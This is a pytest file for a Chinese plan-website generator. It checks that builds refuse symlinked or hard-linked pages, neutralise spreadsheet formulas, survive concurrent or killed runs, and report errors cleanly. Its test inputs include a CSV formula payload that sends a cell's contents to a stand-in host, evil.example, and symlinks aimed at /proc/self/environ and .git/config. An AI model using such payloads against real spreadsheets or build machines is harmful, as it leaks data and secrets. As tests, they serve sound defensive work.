"""What a careless or hostile change cannot do: publish the build machine's files, hide a page
behind another, run a formula in a spreadsheet, tear the output when two runs meet or one is
killed, or show an editor a traceback."""

import errno
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from plansite import build, urls, write
from plansite.commands import generate
from plansite.data.read import read_plan
from plansite.problems import DataError
from plansite.site import calendars, tables
from tests.conftest import DATA, ROOT, project_copy, tree
from tests.error_cases import ERRORS, case

SAMPLE = ROOT / "tests" / "fixtures" / "sample" / "curated.yaml"
MKDOCS_YML = ROOT / "mkdocs.yml"


def pages_folder(tmp_path: Path, *entries: str) -> Path:
    """A pages folder holding ``entries``: 'a/b.md' (a page), 'ln:a.md->target', 'hard:a.md'."""
    folder = tmp_path / "pages"
    folder.mkdir()
    for entry in entries:
        if entry.startswith("ln:"):
            name, target = entry[3:].split("->")
            os.symlink(target, folder / name)
        elif entry.startswith("hard:"):
            (tmp_path / "elsewhere.md").write_text("# 别处\n", encoding="utf-8")
            os.link(tmp_path / "elsewhere.md", folder / entry[5:])
        else:
            (folder / entry).parent.mkdir(parents=True, exist_ok=True)
            (folder / entry).write_text("# 手写\n", encoding="utf-8")
    return folder


@pytest.mark.parametrize(
    "entries, said",
    [
        (["ln:env.md->/proc/self/environ"], "符号链接"),
        (["ln:config.md->../../.git/config"], "符号链接"),
        (["ln:linked->/etc"], "符号链接"),
        (["hard:copy.md"], "硬链接"),
        (["measures/m01/index.md"], "/measures/m01/"),
        (["sectors/industry.md"], "/sectors/industry/"),
        (["Measures/M01.md"], "/Measures/M01/"),
        (["measures/README.md"], "/measures/"),
        (["guide.md", "guide/index.md"], "/guide/"),
    ],
)
def test_a_pages_folder_entry_that_is_not_a_page_of_its_own_is_refused(tmp_path, entries, said):
    with pytest.raises(build.PageConflict, match=re.escape(said)):
        build.build(SAMPLE, MKDOCS_YML, "curated.yaml", hand_written=pages_folder(tmp_path, *entries))


def test_a_pages_folder_that_is_itself_a_link_is_refused(tmp_path):
    (tmp_path / "real").mkdir()
    os.symlink(tmp_path / "real", tmp_path / "pages")
    with pytest.raises(build.PageConflict, match="符号链接"):
        build.build(SAMPLE, MKDOCS_YML, "curated.yaml", hand_written=tmp_path / "pages")


def test_plain_hand_written_pages_are_published_beside_the_generated_ones(tmp_path):
    output = build.build(SAMPLE, MKDOCS_YML, "curated.yaml", hand_written=pages_folder(tmp_path, "guide/how.md"))
    assert output.files["guide/how.md"] == "# 手写\n".encode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_could_start_a_formula_is_written_as_text(start):
    assert tables.cell(f'{start}HYPERLINK("https://evil.example/?"&A1,"市财政局")').startswith("'" + start)
    assert tables.cell("市财政局") == "市财政局"


@pytest.mark.plan
def test_no_generated_csv_cell_starts_a_formula():
    output = build.build(DATA, MKDOCS_YML, "data/measures.yaml")
    for path, content in output.files.items():
        if path.endswith(".csv"):
            cells = [c for row in content.decode("utf-8-sig").splitlines()[1:] for c in row.split(",")]
            assert not [c for c in cells if c.startswith(tables.FORMULA_STARTS)], path


def test_calendar_text_holds_no_control_character():
    escaped = calendars._text("甲\r\n乙\x0b丙\x1b[31m;丁,")
    assert escaped == "甲\\n乙丙[31m\\;丁\\,"


def test_two_runs_at_once_both_publish_whole_output(tmp_path):
    out = tmp_path / "out"
    # The sample plan: what is tested is the lock and the switch, not the size of the output.
    command = [sys.executable, "scripts/generate.py", "--data", str(SAMPLE), "--out", str(out)]
    subprocess.run(command, cwd=ROOT, check=True, capture_output=True)
    expected = tree(out)
    for _ in range(3):
        runs = [subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(2)]
        results = [run.communicate() for run in runs]
        assert [run.returncode for run in runs] == [0, 0], results
        assert tree(out) == expected
        assert len(list((tmp_path / ".out.versions").iterdir())) == 1


def test_a_run_waits_for_the_lock_another_holds_and_says_so(tmp_path, capfd):
    out = tmp_path / "out"
    holder_code = (
        "import pathlib, time\nfrom plansite import write\n"
        f"with write.exclusive(pathlib.Path({str(out)!r})):\n    print('held', flush=True)\n    time.sleep(2)\n"
    )
    holder = subprocess.Popen(
        [sys.executable, "-c", holder_code],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout.readline().strip() == "held"
    started = time.monotonic()
    write.publish(out, {"a.md": b"a"})
    holder.wait()
    assert time.monotonic() - started > 0.5  # it waited for the holder rather than writing beside it
    assert "另一个生成任务正在写入" in capfd.readouterr().err
    assert tree(out) == {write.MARKER: tree(out)[write.MARKER], "a.md": b"a"}


@pytest.mark.site
def test_a_killed_make_site_leaves_the_previous_site(tmp_path):
    # In a copy of the project: the sample plan's site is published, then a build of the real
    # plan (long enough to be caught writing) is killed, then the sample's is built again.
    project = project_copy(tmp_path / "project")
    site = tmp_path / "site"
    command = [sys.executable, "scripts/build_site.py", "--site-dir", str(site), "--quiet"]
    sample = [*command, "--data", str(SAMPLE)]
    subprocess.run(sample, cwd=project, check=True, capture_output=True)
    before = tree(site)
    run = subprocess.Popen(command, cwd=project, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    versions = tmp_path / ".site.versions"
    # Kill it while MkDocs is writing the new version beside the live one.
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and run.poll() is None:
        building = [v for v in versions.iterdir() if v.resolve() != site.resolve()]
        if building and sum(1 for _ in building[0].rglob("*.html")) > 10:
            break
        time.sleep(0.05)
    assert run.poll() is None, "the build ended before it could be killed"
    run.send_signal(signal.SIGTERM)
    run.wait()
    assert tree(site) == before
    subprocess.run(sample, cwd=project, check=True, capture_output=True)
    assert len(list(versions.iterdir())) == 1  # the killed build's folder is gone


def test_an_unexpected_failure_is_one_line_asking_to_report_it(monkeypatch, capsys):
    def broken(*_args, **_kwargs):
        raise RuntimeError("\x1b[31mbroken\nsecond line")

    monkeypatch.setattr(build, "build", broken)
    assert generate.main(["--check"]) == 70
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "Traceback" not in err and "\x1b" not in err
    assert "内部错误" in err and "请把这一行报告给网站的维护者" in err


def test_a_full_disk_is_reported_and_the_previous_output_kept(tmp_path, monkeypatch, capsys):
    out = tmp_path / "out"
    assert generate.generate(DATA, MKDOCS_YML, out)
    before = tree(out)

    def full(*_args, **_kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(out))

    monkeypatch.setattr(write, "_new_file", full)
    monkeypatch.setattr(write.os, "link", full)
    assert generate.main(["--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("错误：无法读写文件") and "No space left on device" in err and "Traceback" not in err
    assert tree(out) == before


def test_make_check_reports_without_makes_own_error_line(tmp_path):
    bad = case("many-errors").write(tmp_path)
    result = subprocess.run(
        ["make", "--no-print-directory", "check", f"DATA={bad}"], cwd=ROOT, capture_output=True, text=True
    )
    assert result.returncode != 0
    assert result.stderr.splitlines()[-1] == "共 4 个问题"
    assert "Error" not in result.stdout + result.stderr


def test_every_problem_is_stated_in_chinese():
    cjk = re.compile(r"[\u4e00-\u9fff]")
    for expected in ERRORS.glob("*.expected"):
        for line in expected.read_text(encoding="utf-8").splitlines():
            if re.search(r"\[[a-z-]+\]$", line) and not line.startswith("  "):
                message = line.split(": ", 1)[1]
                assert cjk.search(message), f"{expected.name}: {line}"


def test_a_declared_correction_is_the_one_allowed_departure_from_the_official_text(tmp_path):
    text = SAMPLE.read_text(encoding="utf-8").replace(
        "  disclosure: 此件公开发布\n", "  disclosure: 此件公开发布\n  source: plan.txt\n"
    )
    (tmp_path / "plan.txt").write_bytes((SAMPLE.parent / "plan.txt").read_bytes())
    changed = text.replace("  text: 推动设备联网。\n", "  text: 推动工业设备联网。\n")
    data = tmp_path / "plan.yaml"
    data.write_text(changed, encoding="utf-8")
    with pytest.raises(DataError) as caught:
        read_plan(data, "plan.yaml")
    assert [p.rule for p in caught.value.problems] == ["not-faithful"]
    data.write_text(
        changed.replace(
            "    note: 更正责任单位：依据原文补充市数据局。\n",
            "    note: 更正责任单位：依据原文补充市数据局。\n"
            "  - date: 2025-05-01\n    note: 原文漏字，经发文机关确认补正。\n    official: 推动设备联网\n"
            "    corrected: 推动工业设备联网\n",
        ),
        encoding="utf-8",
    )
    assert read_plan(data, "plan.yaml").measures[1].text == "推动工业设备联网。"


def test_thirty_thousand_problems_are_each_counted(tmp_path):
    data = tmp_path / "many.yaml"
    lines = SAMPLE.read_text(encoding="utf-8").replace("topics:\n", "topics:\n" + "- {id: Bad, name: x}\n" * 15000, 1)
    data.write_text(lines, encoding="utf-8")
    with pytest.raises(DataError) as caught:
        read_plan(data, "many.yaml")
    assert len(caught.value.problems) >= 30000
    assert caught.value.report().splitlines()[-1] == f"共 {len(caught.value.problems):,} 个问题"


def test_every_anchor_a_template_writes_is_declared_for_the_validator():
    templates = [*(ROOT / "templates").glob("*.j2"), *(ROOT / "overrides").rglob("*.html")]
    written = {
        name
        for template in templates
        for pair in re.findall(r'\{#([a-z0-9-]+)\}|id="([a-z0-9-]+)"', template.read_text(encoding="utf-8"))
        for name in pair
        if name
    }
    assert written and written <= urls.ANCHORS, written - urls.ANCHORS


def test_a_file_saved_with_windows_line_endings_reads_as_the_same_plan(tmp_path):
    crlf = tmp_path / "crlf.yaml"
    crlf.write_bytes(SAMPLE.read_bytes().replace(b"\n", b"\r\n"))
    assert read_plan(crlf, "crlf.yaml") == read_plan(SAMPLE, "curated.yaml")
